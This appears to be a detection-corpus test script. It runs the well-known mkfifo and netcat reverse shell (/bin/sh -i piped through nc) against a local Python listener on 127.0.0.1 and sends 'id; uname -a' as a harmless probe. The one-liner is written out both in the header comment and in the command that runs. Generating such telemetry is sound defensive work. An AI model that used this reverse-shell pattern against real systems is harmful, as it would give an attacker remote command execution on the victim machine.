# techniques: T1059.004 T1095
# The netcat-without-e reverse shell: `rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 |
# nc HOST PORT > /tmp/f`, delivered as a `sh -c` one-liner. The interactive shell's stdio are
# pipes; the socket belongs to nc (busybox through an `nc` symlink). Listener: Python on
# 127.0.0.1:4447. The fifo has a unique name and is removed.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
HOME=$PWD/home; export HOME; mkdir -p "$HOME"

listen() { # PORT COMMANDS [CONNECTIONS]: accept, send the commands, drain until EOF
  rm -f "ready.$1"
  /usr/bin/python3 -I -S -c '
import socket, sys
p, cmd, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", p)); l.listen(1); l.settimeout(8)
open("ready.%d" % p, "w").close()
for _ in range(n):
    c, _ = l.accept(); c.settimeout(4)
    c.sendall(cmd.encode() + b"\n")
    try:
        while c.recv(65536): pass
    except OSError: pass
    c.close()
' "$1" "$2" "${3:-1}" &
  lpid=$!
  i=0; while [ ! -e "ready.$1" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}

command -v busybox >/dev/null || exit 0
mkdir -p bin && ln -sf "$(command -v busybox)" bin/nc
f=/tmp/.f-sensor-corpus-$$
listen 4447 'id; uname -a; exit'
PATH=$PWD/bin:$PATH sh -c "rm -f $f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 4447 > $f"
wait
rm -rf $f bin "$HOME" ready.*
exit 0
